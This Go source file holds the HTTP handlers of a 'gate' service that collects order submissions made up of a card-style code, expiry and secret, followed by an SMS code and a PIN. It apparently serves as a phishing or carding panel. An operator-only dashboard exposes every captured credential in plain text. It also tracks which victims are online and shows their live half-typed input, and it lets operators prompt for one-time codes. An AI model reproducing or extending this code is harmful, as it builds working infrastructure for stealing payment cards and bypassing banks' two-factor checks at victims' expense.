// Package rest exposes the gate service over JSON HTTP.
package rest

import (
	"encoding/json"
	"log"
	"net/http"
	"strings"
	"time"

	apperrors "github.com/verigate/verigate/internal/platform/errors"
	"github.com/verigate/verigate/internal/services/gate/domain"
	"github.com/verigate/verigate/internal/services/gate/operatorauth"
	"github.com/verigate/verigate/internal/services/gate/order"
	"github.com/verigate/verigate/internal/services/gate/relay"
)

// TokenCookie names the cookie carrying the operator token for browser
// clients.
const TokenCookie = "vg_token"

const maxBodyBytes = 64 << 10

// Handler serves the gate HTTP API.
type Handler struct {
	orders   *order.Service
	auth     *operatorauth.Authenticator
	presence *relay.Presence
	sessions *relay.Sessions
}

// New creates the API handler.
func New(orders *order.Service, auth *operatorauth.Authenticator, presence *relay.Presence, sessions *relay.Sessions) *Handler {
	return &Handler{
		orders:   orders,
		auth:     auth,
		presence: presence,
		sessions: sessions,
	}
}

// Register mounts the API routes on mux.
func (h *Handler) Register(mux *http.ServeMux) {
	mux.HandleFunc("POST /api/orders", h.submitOrder)
	mux.HandleFunc("POST /api/orders/{id}/code", h.submitCode)
	mux.HandleFunc("POST /api/orders/{id}/pin", h.submitPin)
	mux.HandleFunc("POST /api/orders/{id}/credential", h.resubmitCredential)
	mux.HandleFunc("POST /api/operator/login", h.login)

	mux.HandleFunc("POST /api/orders/{id}/status", h.operatorOnly(h.setStatus))
	mux.HandleFunc("GET /api/orders", h.operatorOnly(h.listOrders))
	mux.HandleFunc("GET /api/orders/online", h.operatorOnly(h.onlineOrders))
	mux.HandleFunc("GET /api/sessions", h.operatorOnly(h.listSessions))

	mux.HandleFunc("GET /up", func(w http.ResponseWriter, _ *http.Request) {
		writeJSON(w, http.StatusOK, map[string]string{"status": "ok"})
	})
}

// OperatorToken extracts the operator token from a request: Authorization
// bearer header, then the vg_token cookie, then the access_token query
// param.
func OperatorToken(r *http.Request) string {
	if header := strings.TrimSpace(r.Header.Get("Authorization")); header != "" {
		if token, ok := strings.CutPrefix(header, "Bearer "); ok {
			return strings.TrimSpace(token)
		}
	}
	if cookie, err := r.Cookie(TokenCookie); err == nil && cookie.Value != "" {
		return cookie.Value
	}
	return strings.TrimSpace(r.URL.Query().Get("access_token"))
}

func (h *Handler) operatorOnly(next http.HandlerFunc) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		if _, err := h.auth.Verify(OperatorToken(r)); err != nil {
			writeError(w, err)
			return
		}
		next(w, r)
	}
}

type submitOrderRequest struct {
	TenantID string `json:"tenant_id"`
	Identity string `json:"identity"`
	Total    string `json:"total"`
	Code     string `json:"code"`
	Expiry   string `json:"expiry"`
	Secret   string `json:"secret"`
}

type submitOrderResponse struct {
	OrderID         string `json:"order_id"`
	CapabilityToken string `json:"capability_token"`
	Status          string `json:"status"`
	AutoRejected    bool   `json:"auto_rejected"`
}

func (h *Handler) submitOrder(w http.ResponseWriter, r *http.Request) {
	var req submitOrderRequest
	if !decodeBody(w, r, &req) {
		return
	}

	created, err := h.orders.Submit(r.Context(), domain.SubmitInput{
		TenantID: req.TenantID,
		Identity: req.Identity,
		Total:    req.Total,
		Credential: domain.Credential{
			Code:   req.Code,
			Expiry: req.Expiry,
			Secret: req.Secret,
		},
		ClientAddr:       clientAddr(r),
		ClientDescriptor: r.UserAgent(),
	})
	if err != nil {
		writeError(w, err)
		return
	}

	writeJSON(w, http.StatusCreated, submitOrderResponse{
		OrderID:         created.ID,
		CapabilityToken: created.Token,
		Status:          created.Status.Label(),
		AutoRejected:    created.Status == domain.StatusAutoRejected,
	})
}

type setStatusRequest struct {
	RequestedStatus string `json:"requested_status"`
	Code            string `json:"code,omitempty"`
}

func (h *Handler) setStatus(w http.ResponseWriter, r *http.Request) {
	var req setStatusRequest
	if !decodeBody(w, r, &req) {
		return
	}

	requested, err := domain.StatusFromLabel(req.RequestedStatus)
	if err != nil {
		writeError(w, err)
		return
	}

	updated, err := h.orders.SetStatus(r.Context(), r.PathValue("id"), requested, req.Code)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, orderView(updated, false))
}

type submitCodeRequest struct {
	CapabilityToken string `json:"capability_token"`
	Code            string `json:"code"`
}

func (h *Handler) submitCode(w http.ResponseWriter, r *http.Request) {
	var req submitCodeRequest
	if !decodeBody(w, r, &req) {
		return
	}

	updated, err := h.orders.SubmitCode(r.Context(), r.PathValue("id"), req.CapabilityToken, req.Code)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]string{"status": updated.Status.Label()})
}

type submitPinRequest struct {
	CapabilityToken string `json:"capability_token"`
	PIN             string `json:"pin"`
}

func (h *Handler) submitPin(w http.ResponseWriter, r *http.Request) {
	var req submitPinRequest
	if !decodeBody(w, r, &req) {
		return
	}

	updated, err := h.orders.SubmitPin(r.Context(), r.PathValue("id"), req.CapabilityToken, req.PIN)
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]string{"status": updated.Status.Label()})
}

type resubmitCredentialRequest struct {
	CapabilityToken string `json:"capability_token"`
	Code            string `json:"code"`
	Expiry          string `json:"expiry"`
	Secret          string `json:"secret"`
}

func (h *Handler) resubmitCredential(w http.ResponseWriter, r *http.Request) {
	var req resubmitCredentialRequest
	if !decodeBody(w, r, &req) {
		return
	}

	updated, err := h.orders.ResubmitCredential(r.Context(), r.PathValue("id"), req.CapabilityToken, domain.Credential{
		Code:   req.Code,
		Expiry: req.Expiry,
		Secret: req.Secret,
	})
	if err != nil {
		writeError(w, err)
		return
	}
	writeJSON(w, http.StatusOK, map[string]any{
		"status":        updated.Status.Label(),
		"auto_rejected": updated.Status == domain.StatusAutoRejected,
	})
}

type loginRequest struct {
	Username string `json:"username"`
	Password string `json:"password"`
}

func (h *Handler) login(w http.ResponseWriter, r *http.Request) {
	var req loginRequest
	if !decodeBody(w, r, &req) {
		return
	}

	token, err := h.auth.Login(req.Username, req.Password)
	if err != nil {
		writeError(w, err)
		return
	}

	http.SetCookie(w, &http.Cookie{
		Name:     TokenCookie,
		Value:    token,
		Path:     "/",
		HttpOnly: true,
		SameSite: http.SameSiteLaxMode,
		MaxAge:   int(operatorauth.TokenTTL.Seconds()),
	})
	writeJSON(w, http.StatusOK, map[string]any{
		"access_token": token,
		"token_type":   "Bearer",
		"expires_in":   int(operatorauth.TokenTTL.Seconds()),
	})
}

const recentOrdersLimit = 100

func (h *Handler) listOrders(w http.ResponseWriter, r *http.Request) {
	orders, err := h.orders.ListRecent(r.Context(), recentOrdersLimit)
	if err != nil {
		writeError(w, err)
		return
	}

	online := make(map[string]struct{})
	if h.presence != nil {
		for _, id := range h.presence.OnlineOrderIDs() {
			online[id] = struct{}{}
		}
	}

	views := make([]orderJSON, 0, len(orders))
	for _, o := range orders {
		_, isOnline := online[o.ID]
		views = append(views, orderView(o, isOnline))
	}
	writeJSON(w, http.StatusOK, map[string]any{"orders": views})
}

func (h *Handler) onlineOrders(w http.ResponseWriter, _ *http.Request) {
	ids := []string{}
	if h.presence != nil {
		ids = h.presence.OnlineOrderIDs()
	}
	writeJSON(w, http.StatusOK, map[string]any{"order_ids": ids})
}

type sessionJSON struct {
	ConnectionID string            `json:"connection_id"`
	Identity     string            `json:"identity,omitempty"`
	Total        string            `json:"total,omitempty"`
	Draft        map[string]string `json:"draft"`
	StartedAt    string            `json:"started_at"`
}

func (h *Handler) listSessions(w http.ResponseWriter, _ *http.Request) {
	views := []sessionJSON{}
	if h.sessions != nil {
		for _, session := range h.sessions.Snapshot() {
			views = append(views, sessionJSON{
				ConnectionID: session.ConnectionID,
				Identity:     session.Identity,
				Total:        session.Total,
				Draft:        session.Draft,
				StartedAt:    session.StartedAt.Format(time.RFC3339),
			})
		}
	}
	writeJSON(w, http.StatusOK, map[string]any{"sessions": views})
}

type orderJSON struct {
	OrderID          string `json:"order_id"`
	TenantID         string `json:"tenant_id"`
	Identity         string `json:"identity"`
	Total            string `json:"total"`
	Status           string `json:"status"`
	Code             string `json:"code,omitempty"`
	Expiry           string `json:"expiry,omitempty"`
	Secret           string `json:"secret,omitempty"`
	SMSCode          string `json:"sms_code,omitempty"`
	PIN              string `json:"pin,omitempty"`
	ClientAddr       string `json:"client_addr"`
	ClientDescriptor string `json:"client_descriptor,omitempty"`
	Online           bool   `json:"online"`
	CreatedAt        string `json:"created_at"`
	UpdatedAt        string `json:"updated_at"`
}

func orderView(o domain.Order, online bool) orderJSON {
	return orderJSON{
		OrderID:          o.ID,
		TenantID:         o.TenantID,
		Identity:         o.Identity,
		Total:            o.Total,
		Status:           o.Status.Label(),
		Code:             o.Credential.Code,
		Expiry:           o.Credential.Expiry,
		Secret:           o.Credential.Secret,
		SMSCode:          o.SMSCode,
		PIN:              o.PIN,
		ClientAddr:       o.ClientAddr,
		ClientDescriptor: o.ClientDescriptor,
		Online:           online,
		CreatedAt:        o.CreatedAt.Format(time.RFC3339),
		UpdatedAt:        o.UpdatedAt.Format(time.RFC3339),
	}
}

// clientAddr prefers the last X-Forwarded-For hop, falling back to the
// socket address.
func clientAddr(r *http.Request) string {
	if forwarded := strings.TrimSpace(r.Header.Get("X-Forwarded-For")); forwarded != "" {
		parts := strings.Split(forwarded, ",")
		if addr := strings.TrimSpace(parts[len(parts)-1]); addr != "" {
			return addr
		}
	}
	return r.RemoteAddr
}

func decodeBody(w http.ResponseWriter, r *http.Request, target any) bool {
	decoder := json.NewDecoder(http.MaxBytesReader(w, r.Body, maxBodyBytes))
	if err := decoder.Decode(target); err != nil {
		writeError(w, apperrors.Wrap(apperrors.CodeValidation, "decode request body", err))
		return false
	}
	return true
}

type errorJSON struct {
	Code     string            `json:"code"`
	Message  string            `json:"message"`
	Metadata map[string]string `json:"metadata,omitempty"`
}

func writeError(w http.ResponseWriter, err error) {
	code := apperrors.GetCode(err)
	writeJSON(w, code.HTTPStatus(), errorJSON{
		Code:     string(code),
		Message:  err.Error(),
		Metadata: apperrors.GetMetadata(err),
	})
}

func writeJSON(w http.ResponseWriter, status int, payload any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	if err := json.NewEncoder(w).Encode(payload); err != nil {
		log.Printf("gate: write response: %v", err)
	}
}
